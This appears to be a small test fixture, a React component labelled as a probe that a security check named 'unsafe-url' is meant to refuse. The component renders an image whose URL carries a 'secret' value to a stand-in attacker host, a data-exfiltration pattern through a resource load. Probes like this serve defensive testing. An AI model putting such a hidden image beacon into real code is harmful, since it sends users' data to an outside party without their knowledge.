// probe: network by a resource load; refused by: unsafe-url
import { useState } from "react";
export default function Probe() {
  const [v] = useState("secret");
  return <img alt="" src={`https://attacker.test/t/${v}`} />;
}
